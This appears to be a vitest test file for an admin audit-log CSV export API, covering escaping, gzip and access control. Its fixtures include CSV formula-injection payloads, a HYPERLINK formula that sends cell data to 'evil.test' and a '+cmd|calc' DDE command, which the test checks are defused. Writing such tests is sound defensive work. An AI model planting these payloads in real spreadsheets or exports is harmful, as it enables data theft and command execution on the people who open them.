import { randomUUID } from 'node:crypto';
import { gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../../app.test-support';
import { createKey, createOrg, type WorldUser } from '../orgs/orgs.test-support';
import { adminAndUser, seedRows, T0 } from './admin-audit.test-support';
import { parseCsv } from './csv.test-support';

let t: TestApp;
let admin: WorldUser;
let user: WorldUser;

beforeAll(async () => {
  t = await buildTestApp({ RATE_LIMIT_MAX: '100000' });
  ({ admin, user } = await adminAndUser(t));
});
afterAll(() => t?.close());

const HEADER =
  'createdAt,action,actorId,actorEmail,impersonatorId,targetType,targetId,organizationId,ip,userAgent,requestId,diff';

describe('GET /v1/admin/audit-logs/export', () => {
  it('streams matching rows as CSV, escaped and defused, and audits the export with its filters', async () => {
    const organizationId = randomUUID();
    const evil = '=HYPERLINK("http://evil.test/?"&A1,"click")';
    await seedRows(t, [
      {
        action: 'org.updated',
        actorId: user.id,
        organizationId,
        at: 0,
        targetType: 'organization',
        targetId: organizationId,
        ip: '203.0.113.9',
        userAgent: evil,
        requestId: 'rq-1',
        diff: { before: { name: 'Acme, "Inc"' }, after: { name: '+cmd|calc\nline two' } },
      },
      { action: 'auth.locked', organizationId, at: 1000, targetType: 'user', targetId: '-1+1' },
      { action: 'org.created', organizationId: randomUUID(), at: 2000 },
    ]);
    const query = `organizationId=${organizationId}&from=${new Date(T0).toISOString()}`;
    const res = await t.app.inject({
      url: `/v1/admin/audit-logs/export?${query}`,
      headers: { authorization: admin.auth, 'user-agent': 'vitest' },
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="audit-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(res.headers['cache-control']).toBe('private, no-store');
    const rows = parseCsv(res.body);
    expect(rows[0]?.join(',')).toBe(HEADER);
    expect(rows.slice(1)).toEqual([
      [
        new Date(T0 + 1000).toISOString(),
        'auth.locked',
        '',
        '',
        '',
        'user',
        "'-1+1",
        organizationId,
        '',
        '',
        '',
        '',
      ],
      [
        new Date(T0).toISOString(),
        'org.updated',
        user.id,
        user.email,
        '',
        'organization',
        organizationId,
        organizationId,
        '203.0.113.9',
        `'${evil}`,
        'rq-1',
        expect.any(String),
      ],
    ]);
    // The diff is JSON (jsonb orders keys its own way), intact through quoting.
    expect(JSON.parse(rows[2]?.[11] ?? '')).toEqual({
      before: { name: 'Acme, "Inc"' },
      after: { name: '+cmd|calc\nline two' },
    });
    // Nothing in the file starts a cell with a formula character.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const audit = await t.deps.db.auditLog.findFirstOrThrow({
      where: { action: 'admin.audit_exported', actorId: admin.id },
      orderBy: { createdAt: 'desc' },
    });
    expect(audit).toMatchObject({
      targetType: 'audit_log',
      userAgent: 'vitest',
      requestId: res.headers['x-request-id'],
      diff: { before: null, after: { filters: { organizationId, from: new Date(T0).toISOString() } } },
    });
  });

  it('writes only the header for no match, and gzips for clients that accept it', async () => {
    const res = await t.app.inject({
      url: `/v1/admin/audit-logs/export?organizationId=${randomUUID()}`,
      headers: { authorization: admin.auth, 'accept-encoding': 'gzip' },
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-encoding']).toBe('gzip');
    expect(gunzipSync(res.rawPayload).toString()).toBe(`${HEADER}\r\n`);
  });

  it('refuses bad filters with 400 before anything is streamed or audited, and non-admins with 403/401', async () => {
    const before = await t.deps.db.auditLog.count({ where: { action: 'admin.audit_exported' } });
    for (const query of [
      `from=${new Date(T0 + 1).toISOString()}&to=${new Date(T0).toISOString()}`,
      'actorId=nope',
      'cursor=abc',
      'limit=10',
      'action=org.%25',
    ]) {
      const res = await t.app.inject({
        url: `/v1/admin/audit-logs/export?${query}`,
        headers: { authorization: admin.auth },
      });
      expect(res.statusCode, query).toBe(400);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(res.json().code).toBe('validation_failed');
    }
    const key = await createKey(t, (await createOrg(t)).id, ['organization:read']);
    for (const [auth, status] of [
      [user.auth, 403],
      [key.auth, 403],
      [null, 401],
    ] as const) {
      const res = await t.app.inject({
        url: '/v1/admin/audit-logs/export',
        headers: auth ? { authorization: auth } : {},
      });
      expect(res.statusCode).toBe(status);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    }
    expect(await t.deps.db.auditLog.count({ where: { action: 'admin.audit_exported' } })).toBe(before);
  });
});
